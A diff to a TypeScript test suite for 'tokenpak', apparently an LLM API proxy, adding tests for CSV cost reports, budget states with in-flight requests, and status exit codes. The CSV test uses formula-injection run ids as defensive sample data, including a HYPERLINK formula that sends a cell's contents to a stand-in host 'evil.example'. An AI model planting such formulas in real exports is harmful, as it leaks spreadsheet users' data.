@@ -301,6 +301,65 @@ describe("tokenpak report", () => {
     expect(anthropic.totals.adjustments).toBe(0);
   });
 
+  it("CSV: run ids and users that look like formulas stay text, and the sums still equal the ledger", async () => {
+    const own = await world();
+    const proxy = await daemon(own);
+    const runs = [
+      '=HYPERLINK("https://evil.example/?x="&A1,"invoice")',
+      "+1+1",
+      "@SUM(A1:A9)",
+      "-2+3",
+      "plain-run",
+    ];
+    try {
+      for (const run of runs) {
+        const res = await fetch(`${proxy.url}/v1/chat/completions`, {
+          method: "POST",
+          headers: {
+            authorization: `Bearer ${KEYS.alice}`,
+            "content-type": "application/json",
+            "x-tokenpak-run-id": run,
+          },
+          body: JSON.stringify({
+            model: "gpt-4o-mini",
+            max_tokens: 50,
+            messages: [{ role: "user", content: "hi" }],
+          }),
+        });
+        expect(res.status, await res.text()).toBe(200);
+      }
+      await proxy.ledger.adjust({
+        identity: { key: "alice-key", user: "alice", project: "bot" },
+        model: "gpt-4o-mini",
+        provider: "openai",
+        cost: -7_654_321,
+        reason: "reconcile",
+        at: Date.now(),
+      });
+    } finally {
+      await proxy.close();
+    }
+    const r = await cli(own, ["report", "--format", "csv", "--by", "run"]);
+    expect(r.code, r.stderr).toBe(0);
+    // No cell starts with a formula character: each such run id is prefixed with a quote.
+    for (const line of r.stdout.trimEnd().split("\n")) expect(line).not.toMatch(/^"?[=+\-@]/);
+    const records = parseCsv(r.stdout, { columns: true }) as Record<string, string>[];
+    const shown = records.map((x) => x.run);
+    for (const run of runs.slice(0, 4)) expect(shown).toContain(`'${run}`);
+    expect(shown).toContain("plain-run");
+    // Money columns are untouched: a negative amount is still a number, and the sums equal the ledger.
+    const adjusted = records.find((x) => x.adjustments_microcents === "-7654321");
+    expect(adjusted?.adjustments_usd).toBe("-0.07654321");
+    const column = (name: string) => records.map((x) => Number(x[name]));
+    expect(sum(column("spend_microcents"))).toBe(ledgerSpend(own.data));
+    expect(sum(column("total_microcents"))).toBe(ledgerSpend(own.data) - 7_654_321);
+    for (const x of records) {
+      for (const m of ["spend", "adjustments", "total"]) {
+        expect(microsOf(x[`${m}_usd`] ?? "")).toBe(Number(x[`${m}_microcents`]));
+      }
+    }
+  });
+
   it("the table shows nested groups indented under their subtotal, and --output writes the file", async () => {
     const r = await cli(w, ["report", "--by", "project", "--by", "model", "--period", "2025-11"]);
     expect(r.code, r.stderr).toBe(0);
@@ -519,7 +578,9 @@ describe("tokenpak status", () => {
         /^user:bob\s+daily\s+\$0\.00\s+\$0\.\d+\s+\$500\.00\s+\.{20}\s+0%/,
       );
       expect(lines.every((l) => !l.includes("\u001b["))).toBe(true);
-      expect(table.stdout).toContain("✗ 1 budget is blocked");
+      expect(table.stdout).toContain(
+        "✗ 1 budget refuses new requests: 1 reached its limit (refused until it resets)",
+      );
 
       // An override (`tokenpak budget override`) shows beside the limit it raises, and lifts the block.
       const until = Date.now() + 3_600_000;
@@ -566,6 +627,88 @@ describe("tokenpak status", () => {
     expect(stopped.code).toBe(0);
   });
 
+  it("calls a budget full while requests in flight leave too little for the smallest request, and blocked once spend does", async () => {
+    // Each answer uses all the output it may, and takes a while: many requests in flight at once.
+    const slow = await startFakeUpstream({ replyTokens: 1000, latencyMs: 1500 });
+    const dir = await mkdtemp(join(tmpdir(), "tokenpak-views-"));
+    const w = { dir, config: join(dir, "tokenpak.yaml"), data: join(dir, "data") };
+    const text = `
+budget:
+  fallback_model_on_exceed: small
+  per_user_limits: { enabled: true, user_limits: { erin: { daily_limit_cents: 5 } } }
+projects:
+  web: {}
+keys:
+  - { name: erin-key, key: tp-erin-key-00001, project: web, user: erin }
+providers:
+  openai: { type: openai, api_key: sk-upstream-openai, base_url: "${slow.url}/v1" }
+models:
+  large: { provider: openai, pin_price: true, estimated_input_cost_per_1k: 3, estimated_output_cost_per_1k: 6 }
+  small: { provider: openai, pin_price: true, estimated_input_cost_per_1k: 0.5, estimated_output_cost_per_1k: 1.5 }
+`;
+    writeFileSync(w.config, text);
+    const proxy = await startProxy({ config: configFrom(text), dataDir: w.data, port: 0, drainMs: 200 });
+    const erin = async () => {
+      const row = (r: StatusReport) => r.rows.find((x) => x.scope === "user:erin");
+      const run = await cli(w, ["status", "--json", "--scope", "user:erin"]);
+      return {
+        code: run.code,
+        report: JSON.parse(run.stdout) as StatusReport,
+        row: row(JSON.parse(run.stdout)),
+      };
+    };
+    try {
+      const ask = () =>
+        fetch(`${proxy.url}/v1/chat/completions`, {
+          method: "POST",
+          headers: { authorization: "Bearer tp-erin-key-00001", "content-type": "application/json" },
+          body: JSON.stringify({
+            model: "large",
+            max_tokens: 100,
+            messages: [{ role: "user", content: "hello" }],
+          }),
+        }).then(async (res) => ({ status: res.status, body: await res.text() }));
+      const answers = Array.from({ length: 10 }, ask);
+      while (proxy.ledger.openReservations < 7) await new Promise((r) => setTimeout(r, 10));
+      // Ten at once: the first ones hold the budget's worth, the rest are refused while they run.
+      await new Promise((r) => setTimeout(r, 300));
+      const live = await erin();
+      expect(live.row?.spent).toBe(0);
+      expect(live.row?.spent).toBeLessThan(live.row?.cap ?? 0);
+      expect(live.row?.reserved).toBeLessThan(live.row?.cap ?? 0); // short of the cap: the old view said "warning"
+      expect(live.row).toMatchObject({ state: "full", blocked: true });
+      expect(live.report).toMatchObject({ blocked: 1, full: 1 });
+      expect(live.code).toBe(6);
+      const table = await cli(w, ["status", "--scope", "user:erin"]);
+      expect(table.stdout).toMatch(/^user:erin\s+daily\s.*full: refusing \(in flight\)$/m);
+      expect(table.stdout).toContain(
+        "1 held by requests in flight (402 until they settle; a retry may pass)",
+      );
+      expect(table.code).toBe(6);
+
+      const done = await Promise.all(answers);
+      const refused = done.filter((a) => a.status === 402);
+      expect(refused.length).toBeGreaterThan(0);
+      expect(done.filter((a) => a.status === 200).length + refused.length).toBe(10);
+      // Settled: what is left is short of the cap, yet cannot pay for 16 tokens on the cheaper model.
+      const settled = await erin();
+      expect(settled.row?.reserved).toBe(0);
+      expect(settled.row?.spent).toBeLessThan(settled.row?.cap ?? 0);
+      expect(settled.row).toMatchObject({ state: "blocked", blocked: true });
+      expect(settled.report).toMatchObject({ blocked: 1, full: 0 });
+      expect(settled.code).toBe(6);
+      expect((await ask()).status).toBe(402);
+    } finally {
+      await proxy.close();
+      await slow.close();
+    }
+    // Read from the files, the same.
+    const stopped = await erin();
+    expect(stopped.report.source).toBe("journal");
+    expect(stopped.row).toMatchObject({ state: "blocked", blocked: true });
+    expect(stopped.code).toBe(6);
+  });
+
   it("colours its bars on a terminal and not under --no-color; as a subprocess it is plain", async () => {
     const w = await world();
     const proxy = await daemon(w);
@@ -590,11 +733,28 @@ describe("tokenpak status", () => {
     );
     expect(plain.stdout).not.toContain("\u001b[");
     const sub = await runCli(["status", "--config", w.config, "--data-dir", w.data]);
-    expect(sub.code, sub.stderr).toBe(0);
     expect(sub.stdout).toContain("from the journal (no proxy running: nothing in flight)");
     expect(sub.stdout).toMatch(/^user:alice\s+daily\s/m);
     expect(sub.stdout).not.toContain("\u001b[");
-    expect(sub.stdout).toContain("✓ nothing is blocked");
+    // Dave's 0.01¢ a day cannot pay for the smallest request: blocked before he spends anything.
+    expect(sub.stdout).toMatch(/^user:dave\s+daily\s+\$0\.00\s.*BLOCKED$/m);
+    expect(sub.stdout).toContain("✗ 1 budget refuses new requests: 1 reached its limit");
+    expect(sub.code, sub.stderr).toBe(6);
+    const alice = await runCli([
+      "status",
+      "--scope",
+      "user:alice",
+      "--config",
+      w.config,
+      "--data-dir",
+      w.data,
+    ]);
+    expect(alice.code, alice.stderr).toBe(0);
+    expect(alice.stdout).toContain("✓ nothing is blocked");
+    // --json is the program's option; status --help names it all the same.
+    const help = await runInProcess(["status", "--help"], process.cwd(), {});
+    expect(help.stdout).toMatch(/^Usage: tokenpak status \[--scope PREFIX\] \[--all\] \[--json\]$/m);
+    expect(help.stdout).toContain("--json prints {source, rows, blocked, full, exit_code, ...}");
   });
 });
 
